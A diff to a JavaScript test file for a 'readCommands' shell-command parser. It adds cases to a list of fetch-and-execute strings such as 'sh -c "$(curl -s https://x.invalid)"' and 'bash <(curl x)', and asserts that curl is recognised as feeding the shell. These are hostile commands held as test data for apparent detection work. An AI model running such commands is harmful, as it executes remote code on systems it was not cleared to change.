@@ -23,7 +23,14 @@ describe('readCommands', () => {
   });
 
   it('connects substitutions', () => {
-    for (const line of ['sh -c "$(curl -s https://x.invalid)"', 'eval "$(curl x)"', 'bash <(curl x)', 'sh `curl x`']) {
+    for (const line of [
+      'sh -c "$(curl -s https://x.invalid)"',
+      'eval "$(curl x)"',
+      'bash <(curl x)',
+      'sh `curl x`',
+      'bash -c "$(curl x)"',
+      '$(curl x)',
+    ]) {
       const commands = readCommands(line);
       const fed = commands.find(command => command.pipedFrom !== undefined);
       assert.equal(commands[fed?.pipedFrom ?? -1]?.program, 'curl', line);
